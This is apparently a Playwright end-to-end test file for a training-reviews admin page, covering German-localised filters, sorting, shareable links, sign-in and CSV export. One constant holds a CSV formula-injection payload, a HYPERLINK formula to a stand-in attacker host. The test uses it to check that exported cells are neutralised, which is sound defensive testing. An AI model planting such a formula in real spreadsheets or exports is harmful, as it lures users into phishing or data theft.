import { readFile } from 'node:fs/promises'
import { type Page } from '@playwright/test'
import { parse } from 'csv-parse/sync'
import { expect, test, waitForHydration } from './fixtures.ts'
import { DEMO_PASSWORD, dismissUpdates } from './helpers.ts'

/**
 * Training Reviews (spec 2 §2 /reviews, §3 "Review query") against the reference gateway's seed: Globex
 * (a German-speaking company: its admin reads the page in German) has 118 reviews (70 of the annual course, 24 each of Phishing Awareness and Passwords and Multi-Factor
 * Authentication), some of whose comments a spreadsheet would run as formulas; Acme has none. Filters are
 * one GET form and the download a plain link, so each flow runs with JavaScript and without.
 */

const FORMULA_COMMENT = '=HYPERLINK("https://attacker.test/steal","Click for your bonus")'

async function open(page: Page, path: string) {
	await page.goto(path)
	await waitForHydration(page)
	await dismissUpdates(page)
}

const rows = (page: Page) => page.locator('[data-slot="data-table"] tbody tr')
const ratings = (page: Page) =>
	page.locator('[data-slot="data-table"] tbody [data-rating]').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-rating')))

async function downloadCsv(page: Page) {
	const downloading = page.waitForEvent('download')
	await page.getByTestId('reviews-download').click()
	const download = await downloading
	const bytes = await readFile((await download.path())!)
	return { name: download.suggestedFilename(), bytes, rows: parse(bytes, { bom: true }) as string[][] }
}

test.describe('Training Reviews', () => {
	test.describe('as Globex', () => {
		test.use({ account: 'admin@globex.test' })

		test('the navigation opens the reviews: the summary, ten rows a page, the newest first', async ({ page }) => {
			await open(page, '/home')
			await page.getByRole('navigation', { name: 'Hauptnavigation' }).getByRole('link', { name: 'Schulungsbewertungen' }).click()
			await expect(page).toHaveURL(/\/reviews$/)
			await expect(page.getByRole('heading', { level: 1, name: 'Schulungsbewertungen' })).toBeVisible()
			await expect(page.getByTestId('reviews-count')).toHaveText('118 Bewertungen')
			await expect(page.getByTestId('reviews-average')).toHaveText(/^\d,\d von 5$/)
			await expect(rows(page)).toHaveCount(10)
			await expect(page.getByText('1–10 von 118')).toBeVisible()
			// The rating column reads as words to a screen reader.
			await expect(
				rows(page)
					.first()
					.getByRole('img', { name: /^[1-5] von 5$/ }),
			).toBeVisible()
		})

		test('filters narrow the table in the URL; the same URL opens the same view for another admin of the company', async ({
			page,
			browser,
		}, testInfo) => {
			await open(page, '/reviews')
			const filters = page.getByTestId('review-filters')
			await filters.getByText('Alle Schulungen').click()
			await filters.getByLabel('Phishing Awareness').check()
			await filters.getByLabel('5 Sterne').check()
			await filters.getByLabel('Nur Bewertungen mit Kommentar').check()
			await filters.getByRole('button', { name: 'Anwenden' }).click()
			await expect(page).toHaveURL(/trainingId=crs_phishing/)
			await expect(page).toHaveURL(/rating=5/)
			await expect(page).toHaveURL(/comments=true/)
			await expect(page.getByTestId('reviews-count')).toHaveText('5 Bewertungen')
			await expect(rows(page)).toHaveCount(5)
			expect(await ratings(page)).toEqual(['5', '5', '5', '5', '5'])
			await expect(rows(page).getByText('Kein Kommentar')).toHaveCount(0)
			await expect(rows(page).locator('td:nth-child(3)')).toHaveText(Array(5).fill('Phishing Awareness'))

			// Sorted by learner, A to Z: the sort joins the filters in the URL.
			await page.getByRole('link', { name: 'Lernende Person' }).click()
			await expect(page).toHaveURL(/orderBy=userName/)
			const sortedWay = new URL(page.url()).searchParams.get('order')
			const sorted = (names: string[]) =>
				[...names].sort((a, b) => (sortedWay === 'asc' ? 1 : -1) * a.localeCompare(b, 'en', { sensitivity: 'base' }))
			// The URL changes as the navigation starts; the rows once its data is drawn.
			await expect
				.poll(async () => {
					const names = await rows(page).locator('th').allTextContents()
					return names.join('|') === sorted(names).join('|')
				})
				.toBe(true)
			const learners = await rows(page).locator('th').allTextContents()
			const link = page.url()

			// Another admin of Globex, signed out: the link goes through their sign-in and lands on the same
			// filtered, sorted view.
			const other = await browser.newContext({
				javaScriptEnabled: testInfo.project.use.javaScriptEnabled,
				storageState: { cookies: [], origins: [] },
			})
			const second = await other.newPage()
			await second.goto(link)
			await expect(second).toHaveURL(/\/login/)
			await second.getByLabel('Email').fill('auditor@globex.test')
			await second.getByLabel('Password').fill(DEMO_PASSWORD)
			await second.getByRole('button', { name: 'Log In' }).click()
			await expect(second).toHaveURL(link)
			await expect(second.getByTestId('user-menu')).toContainText('Otto Auditor')
			await expect(second.getByTestId('reviews-count')).toHaveText('5 Bewertungen')
			await expect(rows(second).locator('th')).toHaveText(learners)
			await expect(second.getByTestId('review-filters').getByLabel('5 Sterne')).toBeChecked()
			await expect(second.getByTestId('review-filters').getByLabel('Nur Bewertungen mit Kommentar')).toBeChecked()
			await other.close()

			// Clear filters: every review again, the sort kept.
			await page.getByRole('link', { name: 'Filter zurücksetzen' }).click()
			await expect(page.getByTestId('reviews-count')).toHaveText('118 Bewertungen')
			await expect(page).toHaveURL(/orderBy=userName/)
		})

		test('Download CSV: every review the filters select, in a file a spreadsheet opens without running a formula', async ({ page }) => {
			await open(page, '/reviews')
			const all = await downloadCsv(page)
			expect(all.name).toMatch(/^training-reviews-\d{4}-\d{2}-\d{2}\.csv$/)
			expect([...all.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
			// The header row in the reader's language (Globex's is German).
			expect(all.rows[0]).toEqual(['Lernende Person', 'E-Mail', 'Schulung', 'Bewertung', 'Kommentar', 'Datum'])
			expect(all.rows).toHaveLength(119)
			const cells = all.rows.slice(1).flat()
			expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || /^-[^\d]/.test(cell))).toEqual([])
			expect(cells).toContain(`'${FORMULA_COMMENT}`)
			expect(cells).toContain('קורס מצוין, מומלץ לכולם')

			await open(page, '/reviews?rating=1&rating=2')
			const low = await downloadCsv(page)
			expect(low.rows.length).toBeGreaterThan(1)
			expect(low.rows.slice(1).every((row) => row[3] === '1' || row[3] === '2')).toBe(true)
			const shown = Number((await page.getByTestId('reviews-count').textContent())!.replace(/\D/g, ''))
			expect(low.rows).toHaveLength(shown + 1)
		})
	})

	test.describe('as Acme, with no reviews yet', () => {
		test.use({ account: 'admin@acme.test' })

		test('the empty state, and nothing to download', async ({ page }) => {
			await open(page, '/reviews')
			await expect(page.getByText('No data', { exact: true })).toBeVisible()
			await expect(page.getByTestId('reviews-average')).toHaveText('No ratings')
			await expect(page.getByTestId('reviews-download')).toBeDisabled()
			await expect(page.getByTestId('review-filters').getByText('All trainings')).toBeVisible()
		})
	})
})
